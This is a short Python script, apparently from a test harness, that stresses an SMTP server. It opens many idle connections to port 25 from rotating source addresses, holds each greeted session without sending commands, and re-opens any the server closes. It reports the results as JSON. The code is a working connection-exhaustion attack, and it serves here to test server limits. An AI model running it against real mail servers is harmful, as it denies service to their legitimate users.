# One attacker holding as many idle sessions as it can: it opens N
# connections (round robin over the source addresses), reads each first
# reply and keeps those greeted with 220, never sending a command; for
# SECONDS it re-opens every connection the server closes or refuses. Creates
# READY after the first N attempts; prints a JSON summary at the end.
# python3 attack.py SERVER SECONDS N READY SRC...
import json, resource, select, socket, sys, time

from replies import first_line

server, seconds, n, ready = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
sources = sys.argv[5:]
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, n + 256)), hard))
family = socket.AF_INET6 if ":" in server else socket.AF_INET
held, replies = [], {}
stats = {"attempts": 0, "greeted": 0, "connect_errors": 0, "closed_by_server": 0,
         "held_max": 0}
turn = 0

def count(line):
    replies[line] = replies.get(line, 0) + 1

def attempt():
    global turn
    src = sources[turn % len(sources)]
    turn += 1
    stats["attempts"] += 1
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(10)
    try:
        s.bind((src, 0))
        s.connect((server, 25))
        line = first_line(s)
    except OSError:
        stats["connect_errors"] += 1
        s.close()
        return
    if line.startswith("220"):
        stats["greeted"] += 1
        held.append(s)
        stats["held_max"] = max(stats["held_max"], len(held))
    else:
        count(line)
        s.close()

for _ in range(n):
    attempt()
stats["held_after_first"] = len(held)
open(ready, "w").close()
end = time.time() + seconds
while time.time() < end:
    readable = select.select(held, [], [], 0.1)[0] if held else []
    for s in readable:
        try:
            line = first_line(s)
        except OSError:
            line = "<reset>"
        count(line or "<closed>")
        stats["closed_by_server"] += 1
        held.remove(s)
        s.close()
    # Keep the pressure up, at most one pass over the missing ones per turn.
    missing = n - len(held)
    for _ in range(missing):
        attempt()
    if missing:
        time.sleep(0.05)
stats["held_end"] = len(held)
stats["replies"] = replies
print(json.dumps(stats), flush=True)
